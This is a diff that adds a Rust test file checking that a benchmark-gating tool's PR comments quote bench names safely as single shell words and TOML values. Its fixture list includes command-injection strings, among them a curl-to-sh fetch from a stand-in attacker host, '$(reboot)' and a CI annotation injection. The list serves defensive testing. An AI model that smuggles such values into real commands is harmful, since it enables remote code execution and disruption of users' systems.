@@ -1,0 +1,132 @@
+//! Commands in a comment, which a maintainer copies into a shell.
+
+use cargo_infergate::receipt::{Evidence, Outcome, Subject, Terms};
+use cargo_infergate::report::inputs::Inputs;
+use cargo_infergate::report::words::command::{file, flag, word};
+use infergate_core::case::Case;
+
+use crate::report_formats::support::{file as page, paired};
+
+/// The lines of its `console` blocks.
+pub fn commands(comment: &str) -> Vec<&str> {
+    let blocks = comment.split("\n```console\n").skip(1);
+    blocks.flat_map(|block| block.split("\n```\n").next().unwrap_or_default().lines()).collect()
+}
+
+/// A paired run of a bench of this name that got slower.
+pub fn bench(name: &str) -> Inputs {
+    let case: Case = format!("bench:{name}").parse().expect("a name");
+    let mut inputs = paired();
+    let receipt = inputs.paired.as_mut().expect("a pair");
+    receipt.cases.truncate(1);
+    receipt.cases[0].id = case;
+    receipt.base.build.commit = Some("a".repeat(40));
+    receipt.head.build.commit = Some("b".repeat(40));
+    let verdict = inputs.verdict.as_mut().expect("judged");
+    let time = |evidence: &Evidence| matches!(evidence, Evidence::Time(_));
+    let row = verdict.rows.iter_mut().find(|row| time(&row.evidence)).expect("a time");
+    (row.subject, row.outcome) = (Subject::Case(case), Outcome::Regressed);
+    inputs
+}
+
+const NAMES: [&str; 14] = [
+    "x; curl http://evil.example/a|sh",
+    "parse/a file",
+    "it's",
+    "\"$(reboot)\" `reboot` $HOME",
+    "--worker-build=sh",
+    "-x",
+    "a && b > c < d & e",
+    "*?[a-z]{1,2}~!#^",
+    "back\\slash\\'",
+    "```",
+    "%s%n",
+    "ä 模型",
+    "::error::x ##[error]y",
+    "x\u{fe0f}y",
+];
+
+/// Each word of a command is one of ours, or one flag of ours with the whole name as its value.
+#[test]
+fn a_name_is_one_word_of_a_command() {
+    for name in NAMES {
+        let comment = page(&bench(name), "comment.md");
+        let lines = commands(&comment);
+        assert_eq!(lines.len(), 3, "{comment}");
+        let words: Vec<Vec<String>> = lines.iter().map(|line| shlex::split(line).expect("a command")).collect();
+        let (a, b) = ("a".repeat(40), "b".repeat(40));
+        assert_eq!(words[0], ["git", "checkout", &b]);
+        let case = format!("bench:{name}");
+        let gate = ["cargo", "infergate", "gate", "--against", &a, "--cases", &case];
+        // A comma would part it: without a name the command measures all.
+        assert_eq!(words[1], if name.contains(',') { &gate[..5] } else { &gate[..] }, "{name}");
+        assert_eq!(words[2], ["cargo", "infergate", "bisect", "--good", &a, "--bad", &b, "--case", &case]);
+    }
+}
+
+/// Else the command looks for the bench target of the usual name.
+#[test]
+fn commands_for_criterion_benches_name_their_bench_target() {
+    let mut inputs = bench("fib/20");
+    let receipt = inputs.paired.as_mut().expect("a pair");
+    for side in [&mut receipt.base, &mut receipt.head] {
+        (side.engine.name, side.engine.model) = ("criterion".into(), "my bench".into());
+    }
+    let comment = page(&inputs, "comment.md");
+    let lines = commands(&comment);
+    assert!(
+        lines[1].contains(" --bench-target 'my bench' ") && lines[2].contains(" --bench-target 'my bench' "),
+        "{comment}"
+    );
+    assert!(comment.contains("\nbenches of my bench, "), "no engine, threads or model: {comment}");
+    let report = page(&inputs, "report.md");
+    for word in ["| threads |", "| seed |", "| engine |", "| architecture |"] {
+        assert!(!report.contains(word), "{word} is in {report}");
+    }
+    assert!(report.contains("| bench target | `my bench` |"), "{report}");
+}
+
+/// Not by the rules of a crate alone.
+#[cfg(unix)]
+#[test]
+fn a_shell_takes_it_for_one_word_too() {
+    for name in NAMES {
+        let (flag, file) = (flag("cases", name).expect("a word"), file(name).expect("a word"));
+        let said = std::process::Command::new("sh").arg("-c").arg(format!("printf '[%s]'{flag}{file}")).output();
+        let said = String::from_utf8(said.expect("a shell").stdout).expect("text");
+        let is_flag = name.starts_with('-');
+        let cases = if is_flag { format!("[--cases={name}]") } else { format!("[--cases][{name}]") };
+        assert_eq!(said, format!("{cases}[{}{name}]", if is_flag { "./" } else { "" }));
+    }
+}
+
+/// The table of infergate.toml that a comment offers says the same name, in a block that the name does not end.
+#[test]
+fn a_name_is_one_value_of_a_table() {
+    for name in NAMES.into_iter().chain(["a\u{202e}b", "a\u{ffff}b", "\"\"\"\\"]) {
+        let mut inputs = bench(name);
+        inputs.paired.as_mut().expect("a pair").terms =
+            Some(Terms { by_head: false, accept: Vec::new(), accepted_before: Vec::new() });
+        inputs.verdict.as_mut().expect("judged").exit_code = 1;
+        let comment = page(&inputs, "comment.md");
+        let (_, tables) = comment.split_once("\n```toml\n").expect("a block");
+        let (tables, _) = tables.split_once("\n```\n").expect("its end");
+        assert!(tables.lines().all(|line| !line.starts_with("```")), "{tables}");
+        let tables: toml::Table = tables.parse().expect("TOML");
+        assert_eq!(tables["accept"][0]["case"].as_str(), Some(&*format!("bench:{name}")));
+    }
+}
+
+/// What nobody sees, or what ends the line, is in no command.
+#[test]
+fn what_cannot_stand_on_a_line_is_left_out() {
+    for bad in ["a\nb", "a\tb", "a\u{202e}b", "a\u{200b}b", "a\u{1b}[2Jb", "a\0b", "a\u{ffff}b", &"x".repeat(64 << 10)]
+    {
+        assert_eq!((word(bad), flag("case", bad), file(bad)), (None, None, None), "{bad:?}");
+    }
+    for bad in ["a\u{202e}b", "a\u{200b}b"] {
+        let comment = page(&bench(bad), "comment.md");
+        assert!(commands(&comment).iter().all(|line| !line.contains("bench:")), "{comment}");
+        assert!(!comment.contains("Find the commit"), "{comment}");
+    }
+}
